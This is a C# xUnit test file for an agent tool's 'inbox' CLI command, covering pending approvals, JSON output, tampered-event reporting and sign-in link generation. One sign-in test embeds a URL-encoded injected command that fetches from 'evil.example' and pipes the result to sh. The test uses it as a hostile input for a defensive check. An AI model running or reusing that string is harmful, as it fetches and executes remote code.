using AgentMcp.State.Sqlite;
using Dapper;

namespace AgentMcp.Server.Tests.Cli;

public sealed class The_inbox_in_the_terminal : IDisposable
{
    private readonly CommandLine _agentmcp = new();

    public void Dispose() => _agentmcp.Dispose();

    [Fact]
    [Trait("Accepts", "A2H.2")]
    public async Task It_lists_what_waits_newest_first_and_says_how_to_answer()
    {
        Assert.Equal("Nothing waits for you.\n", (await _agentmcp.Run("inbox")).Told);
        await _agentmcp.Call("calculator", "divide 3 by 4");
        await _agentmcp.Call("calculator", "hello");

        var ran = await _agentmcp.Run("inbox");

        Assert.Equal(
            """
            calculator  question  2026-01-01 00:00:00Z  thr_...
              Which operation, and which numbers? For example: multiply 3 and 4.
            calculator  approval  2026-01-01 00:00:00Z  thr_...
              Run divide with a 3, b 4?

            Answer one with: agentmcp answer THREAD

            """, ran.Told);
        Assert.Equal((0, ""), (ran.ExitCode, ran.Error));
    }

    [Fact]
    public async Task As_json_it_is_what_clients_see()
    {
        var thread = await _agentmcp.Call("calculator", "divide 3 by 4");
        var pending = (await _agentmcp.Run("inbox", "--json")).Json.GetProperty("pending").EnumerateArray().Single();
        Assert.Equal((thread, "pending", "approval"), (pending.GetProperty("thread_id").GetString(), pending.GetProperty("status").GetString(),
            pending.GetProperty("requests")[0].GetProperty("kind").GetString()));
    }

    [Fact]
    public async Task A_thread_that_cannot_be_read_is_named_and_the_others_are_listed()
    {
        var sound = await _agentmcp.Call("calculator", "divide 3 by 4");
        var changed = await _agentmcp.Call("calculator", "divide 5 by 6");
        using (var database = Database.Open(_agentmcp.Database))
        using (var connection = database.Connect())
        {
            connection.Execute("""DROP TRIGGER events_are_never_changed; UPDATE events SET data = '{"type":"x"}' WHERE version = 2 AND thread_id = @changed""", new { changed });
        }

        var ran = await _agentmcp.Run("inbox");
        var json = await _agentmcp.Run("inbox", "--json");

        const string Reason = "A stored event cannot be read; was it written by a newer version, or changed by hand?";
        Assert.Equal((0, "", 0, ""), (ran.ExitCode, ran.Error, json.ExitCode, json.Error));
        Assert.StartsWith($"{changed} cannot be read: {Reason}", ran.Output, StringComparison.Ordinal);
        Assert.Contains("  Run divide with a 3, b 4?\n", ran.Output, StringComparison.Ordinal);
        Assert.Equal([sound], json.Json.GetProperty("pending").EnumerateArray().Select(thread => thread.GetProperty("thread_id").GetString()));
        var unreadable = json.Json.GetProperty("unreadable").EnumerateArray().Single();
        Assert.Equal(changed, unreadable.GetProperty("thread_id").GetString());
        Assert.StartsWith(Reason, unreadable.GetProperty("reason").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task It_makes_links_that_sign_a_browser_in()
    {
        var ran = await _agentmcp.Run("inbox", "--sign-in", "http://localhost:8484/threads");
        Assert.Matches(@"^http://localhost:8484/sign-in\?code=[A-Za-z0-9_-]+\.[0-9a-f]{64}\n$", ran.Output.ReplaceLineEndings("\n"));

        // What the sign-in page shows of an address that somebody made up.
        var strange = await _agentmcp.Run("inbox", "--sign-in", "http://localhost:8484/requests/x%3Bcurl%20evil.example%7Csh");
        Assert.Matches(@"^http://localhost:8484/sign-in\?code=[A-Za-z0-9_-]+\.[0-9a-f]{64}\n$", strange.Output.ReplaceLineEndings("\n"));

        var wrong = await _agentmcp.Run("inbox", "--sign-in", "localhost");
        Assert.Equal((2, "--sign-in takes the address of a page, such as http://localhost:8484/, not 'localhost'.\n"), (wrong.ExitCode, wrong.Complained));
    }
}
